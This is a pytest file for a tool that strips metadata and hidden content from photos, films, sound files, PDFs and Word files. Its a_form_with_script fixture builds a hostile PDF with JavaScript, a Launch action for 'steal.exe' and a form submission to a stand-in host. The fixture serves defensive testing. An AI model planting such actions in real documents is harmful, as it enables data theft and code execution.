"""What the makers of evidence do not plant: odd pictures, hidden corners of films and papers."""

import io
import subprocess
import zipfile

import pikepdf
import pytest
from PIL import Image, ImageCms, ImageSequence

from admin.cleaning import NotCleaned, Reason, can_clean, clean
from admin.cleaning.hevc import _filler
from tests.admin.cleaning.conftest import needs, skip_without
from tests.admin.cleaning.traces import layers, traces
from tests.evidence_files import (
    AUTHOR,
    COMMENT,
    MADE,
    SERIAL,
    docx,
    film_mp4,
    gif_with_script,
    html,
    is_upright,
    pdf_with_author,
    photo_with_gps,
    picture_with_page,
    sound_mp3,
)
from tests.evidence_files.pictures import encoded, upright

pytestmark = pytest.mark.skipif(not can_clean(), reason="no bubblewrap on this machine")


def drawn(data):
    return Image.open(io.BytesIO(clean(data, name="x").data))


def test_a_picture_that_is_a_page_as_well_is_a_picture_alone():
    assert html() not in clean(picture_with_page(), name="x").data
    assert b"sessionStorage" not in clean(gif_with_script(), name="x").data


def test_what_stands_behind_a_photo_is_dropped():
    film = b"\0\0\0\x18ftypmp42" + AUTHOR.encode()

    assert AUTHOR.encode() not in clean(photo_with_gps() + film, name="x").data


MODES = {
    "grey": ("L", "PNG", "L"),
    "black and white": ("1", "PNG", "L"),
    "grey with holes": ("LA", "PNG", "RGBA"),
    "16 bits of grey": ("I;16", "PNG", "L"),
    "a palette": ("P", "PNG", "RGB"),
    "grey photo": ("L", "JPEG", "L"),
    "a printer's colours": ("CMYK", "JPEG", "RGB"),
}


@pytest.mark.parametrize("name", MODES)
def test_each_way_to_keep_points_is_understood(name):
    mode, kind, becomes = MODES[name]
    picture = (
        Image.new("I;16", (8, 8), 256 * 128) if mode == "I;16" else upright(64, 64).convert(mode)
    )

    result = drawn(encoded(picture, kind))

    assert (result.mode, result.size) == (becomes, picture.size)
    if mode == "I;16":
        assert result.getpixel((0, 0)) == 128
    elif becomes == "RGB":
        assert is_upright(result)


@pytest.mark.parametrize("kind", ["PNG", "WEBP", "GIF"])
def test_a_moving_picture_keeps_its_frames_and_their_time(kind):
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "lime", "blue")]
    moving = encoded(
        frames[0], kind, save_all=True, append_images=frames[1:], duration=[100, 200, 300], loop=0
    )

    result = drawn(moving)
    times = []
    for frame in ImageSequence.Iterator(result):
        frame.load()
        times.append(int(frame.info["duration"]))
    assert (result.format, times) == (kind, [100, 200, 300])


def test_a_wider_space_of_colours_becomes_the_usual_one_and_a_broken_profile_is_passed_over():
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()

    for icc in (profile, b"no profile at all"):
        result = drawn(encoded(upright(), "PNG", icc_profile=icc))
        assert is_upright(result)
        assert "icc_profile" not in result.info


def decoded(data, stream):
    """A hash of every picture or sample that a film shows."""
    said = subprocess.run(
        [
            "ffmpeg",
            "-v",
            "error",
            "-nostdin",
            "-i",
            "pipe:0",
            "-map",
            stream,
            "-f",
            "framehash",
            "-",
        ],
        input=data,
        capture_output=True,
        check=True,
        timeout=60,
    )
    return [line.rpartition(b",")[2] for line in said.stdout.splitlines() if line[:1] != b"#"]


def made(*arguments, ending, tmp_path):
    path = tmp_path / f"made.{ending}"
    subprocess.run(
        ["ffmpeg", "-v", "error", "-nostdin", "-y", *arguments, str(path)],
        check=True,
        timeout=120,
    )
    return path.read_bytes()


PICTURE = ("-f", "lavfi", "-i", "testsrc=size=160x120:rate=10:duration=1")
# These readers need the index in front, for they are given the film through a pipe.
IN_FRONT = ("-movflags", "faststart")


@needs("ffmpeg")
@pytest.mark.parametrize(
    ("codec", "mark"), [("libx264", b"x264 - core"), ("libx265", b"x265 (build")]
)
def test_messages_between_a_films_pictures_go_and_every_picture_stays(codec, mark, tmp_path):
    film = made(*PICTURE, "-c:v", codec, *IN_FRONT, ending="mp4", tmp_path=tmp_path)
    assert mark in film

    result = clean(film, name="x").data

    assert mark not in result
    (tmp_path / "result.mp4").write_bytes(result)
    again = made(
        "-i", str(tmp_path / "result.mp4"), "-c", "copy", *IN_FRONT, ending="mov", tmp_path=tmp_path
    )
    assert decoded(again, "0:v") == decoded(film, "0:v") != []


@needs("ffmpeg", "exiftool")
def test_a_film_that_was_held_upright_stays_so(tmp_path):
    lying = made(*PICTURE, "-c:v", "libx264", ending="mp4", tmp_path=tmp_path)
    (tmp_path / "lying.mp4").write_bytes(lying)
    turned = made("-display_rotation", "90", "-i", str(tmp_path / "lying.mp4"), "-c", "copy",
                  ending="mov", tmp_path=tmp_path)  # fmt: skip
    (tmp_path / "clean.mov").write_bytes(clean(turned, name="x").data)

    said = subprocess.run(
        ["exiftool", "-s3", "-Rotation", str(tmp_path / "clean.mov")],
        capture_output=True,
        check=True,
    )
    assert said.stdout.strip() == b"270"


@needs("ffmpeg")
def test_a_film_without_pictures_becomes_a_sound(tmp_path):
    sound = made(
        "-f", "lavfi", "-i", "sine=duration=1", "-c:a", "aac", ending="mp4", tmp_path=tmp_path
    )

    result = clean(sound, name="x")

    assert (result.type, result.name) == ("audio/mp4", "录音.m4a")


@needs("ffmpeg")
@pytest.mark.parametrize("ending", ["mkv", "avi", "aac", "flac"])
def test_other_boxes_are_cleaned_too(ending, tmp_path):
    codecs = {"mkv": "libx264", "avi": "mpeg4"}
    tags = ("-metadata", f"artist={AUTHOR}", "-metadata", f"comment={COMMENT}")
    if ending in codecs:
        source = (*PICTURE, "-c:v", codecs[ending])
    else:
        source = ("-f", "lavfi", "-i", "sine=duration=1", "-ar", "8000", "-ac", "1")
    film = made(*source, *tags, ending=ending, tmp_path=tmp_path)

    result = clean(film, name="x")

    assert result.name.endswith(f".{ending}")
    assert traces(result.data) == set()


@needs("ffmpeg")
def test_a_film_of_photos_is_not_cleaned_for_each_may_carry_its_own_traces(tmp_path):
    film = made(*PICTURE, "-c:v", "mjpeg", ending="avi", tmp_path=tmp_path)

    with pytest.raises(NotCleaned) as caught:
        clean(film, name="x")
    assert caught.value.reason is Reason.UNKNOWN_KIND


@needs("ffmpeg")
def test_tags_at_the_end_and_in_the_middle_of_a_sound_go():
    value = AUTHOR.encode()
    item = len(value).to_bytes(4, "little") + b"\0\0\0\0Artist\0" + value
    head = (2000).to_bytes(4, "little") + (len(item) + 32).to_bytes(4, "little")
    ape = b"APETAGEX" + head + b"\1\0\0\0\0\0\0\x80" + b"\0" * 8
    tagged = sound_mp3() + item + ape + sound_mp3() + b"LYRICSBEGIN" + value + b"LYRICS200"

    assert traces(clean(tagged, name="x").data) == set()


def test_an_earlier_version_of_a_paper_is_not_in_the_clean_one():
    """A PDF that was changed keeps, in front of the change, all that it was."""
    first = pdf_with_author()
    with pikepdf.open(io.BytesIO(first)) as pdf:
        number, size = pdf.Root.objgen[0], int(pdf.trailer.Size)
        pages = pdf.Root.Pages.objgen[0]
    start = first.rpartition(b"startxref")[2].split()[0]
    secret = f"<</Type/Catalog/Pages {pages} 0 R/Lang({SERIAL})>>"
    again = f"<</Type/Catalog/Pages {pages} 0 R>>"
    changed = first
    root = f"/Size {size}/Root {number} 0 R"
    for catalogue in (secret, again):
        at = len(changed) + 1
        body = f"\n{number} 0 obj\n{catalogue}\nendobj\n"
        table = len(changed) + len(body)
        changed += (
            f"{body}xref\n{number} 1\n{at:010} 00000 n \n"
            f"trailer<<{root}/Prev {int(start)}>>\nstartxref\n{table}\n%%EOF\n"
        ).encode()
        start = str(table).encode()
    assert SERIAL.encode() in changed

    assert traces(clean(changed, name="x").data) == set()


def a_form_with_script():
    pdf = pikepdf.new()
    page = pdf.add_blank_page()
    field = pikepdf.Dictionary(
        Type=pikepdf.Name("/Annot"),
        Subtype=pikepdf.Name("/Widget"),
        FT=pikepdf.Name("/Tx"),
        T="amount",
        V="3000",
        Rect=[0, 0, 9, 9],
        AA=pikepdf.Dictionary(K=pikepdf.Dictionary(S=pikepdf.Name("/JavaScript"), JS="steal()")),
        A=pikepdf.Dictionary(
            S=pikepdf.Name("/GoTo"),
            D=[0],
            Next=pikepdf.Dictionary(S=pikepdf.Name("/Launch"), F="steal.exe"),
        ),
    )
    link = pikepdf.Dictionary(
        Type=pikepdf.Name("/Annot"),
        Subtype=pikepdf.Name("/Link"),
        Rect=[0, 0, 9, 9],
        A=pikepdf.Dictionary(S=pikepdf.Name("/SubmitForm"), F="http://steal.example/"),
    )
    seal = pikepdf.Dictionary(
        Type=pikepdf.Name("/Annot"),
        Subtype=pikepdf.Name("/Widget"),
        FT=pikepdf.Name("/Sig"),
        T="seal",
        Rect=[0, 0, 9, 9],
        V=pikepdf.Dictionary(Name=AUTHOR, ByteRange=[0, 1, 2, 3], M="D:20190304050607"),
    )
    file = pikepdf.Dictionary(
        Type=pikepdf.Name("/Annot"),
        Subtype=pikepdf.Name("/FileAttachment"),
        Rect=[0, 0, 9, 9],
        FS=pikepdf.Dictionary(F="steal.exe", EF=pikepdf.Dictionary(F=pdf.make_stream(b"steal"))),
    )
    page.obj.Annots = pikepdf.Array([pdf.make_indirect(one) for one in (field, link, seal, file)])
    pdf.Root.AcroForm = pikepdf.Dictionary(
        Fields=[*page.obj.Annots][::2], XFA=pdf.make_stream(b"steal()")
    )
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def test_a_papers_form_keeps_what_was_filled_in_and_runs_nothing():
    found = b"\n".join(layers(clean(a_form_with_script(), name="x").data))

    assert b"3000" in found
    assert b"amount" in found
    for gone in (b"steal", b"JavaScript", b"Launch", b"SubmitForm", AUTHOR.encode()):
        assert gone not in found


def docx_part(name, content):
    """The Word file of the tests with one part put in the place of another."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx())) as old, zipfile.ZipFile(out, "w") as new:
        for part in old.namelist():
            new.writestr(part, content if part == name else old.read(part))
    return out.getvalue()


@needs("mat2")
def test_what_mat2_leaves_in_a_word_file_goes_too():
    words = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    drawing = "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"
    body = (
        f'<w:document xmlns:w="{words}" xmlns:wp="{drawing}"><w:body><w:p><w:r><w:rPr><w:b/>'
        f'<w:rPrChange w:id="3" w:author="{AUTHOR}" w:date="2019-03-04T05:06:07Z"/></w:rPr>'
        f'<w:t>kept</w:t></w:r><wp:docPr id="1" name="{AUTHOR}.jpg" descr="C:\\{COMMENT}"/>'
        "</w:p></w:body></w:document>"
    )
    cleaned = clean(docx_part("word/document.xml", body), name="x").data

    assert traces(cleaned) == set()
    with zipfile.ZipFile(io.BytesIO(cleaned)) as archive:
        words_left = archive.read("word/document.xml")
    assert b"kept" in words_left
    assert b"rPrChange" in words_left


def test_a_films_bulk_that_no_player_shows_is_dropped():
    film = film_mp4() + (len(AUTHOR) + 8).to_bytes(4, "big") + b"free" + AUTHOR.encode()

    assert AUTHOR.encode() not in clean(film, name="x").data


SPEECH = b"#!AMR\n" + (b"\x04" + bytes(range(12))) * 60


def test_a_telephones_recording_stays_as_it_is_without_what_hangs_on_it():
    assert clean(SPEECH, name="x").data == SPEECH
    assert clean(SPEECH + AUTHOR.encode(), name="x").data == SPEECH
    assert clean(SPEECH[:-5], name="x").data == SPEECH[:-13]


@pytest.mark.parametrize("length", [3, 20, 256, 257, 258, 259, 260, 700])
def test_a_message_is_blanked_by_a_filler_of_its_own_length(length):
    filler = _filler(length)

    assert len(filler) == length
    assert filler.rstrip(b"\0").endswith(b"\x80")


BEHIND = b"hangs-behind-the-end" * 9


@pytest.mark.parametrize("name", MADE)
def test_what_hangs_behind_the_end_of_a_file_is_dropped(name):
    make, kind = MADE[name]
    tool = "mat2" if name.endswith("docx") else "ffmpeg"
    if kind.partition("/")[0] in {"audio", "video"} or tool == "mat2":
        skip_without(tool)

    assert BEHIND[:20] not in clean(make() + BEHIND, name="x").data


@needs("ffmpeg")
def test_what_hangs_behind_frames_of_another_kind_is_dropped_or_told(tmp_path):
    sound = ("-f", "lavfi", "-i", "sine=duration=1")

    aac = made(*sound, ending="aac", tmp_path=tmp_path)
    assert BEHIND[:20] not in clean(aac + BEHIND, name="x").data

    flac = made(*sound, ending="flac", tmp_path=tmp_path)
    with pytest.raises(NotCleaned) as caught:
        clean(flac + BEHIND, name="x")
    assert caught.value.reason is Reason.BROKEN


@needs("ffmpeg")
def test_flac_loses_no_sample(tmp_path):
    flac = made("-f", "lavfi", "-i", "sine=duration=1", ending="flac", tmp_path=tmp_path)

    assert decoded(clean(flac, name="x").data, "0:a") == decoded(flac, "0:a") != []
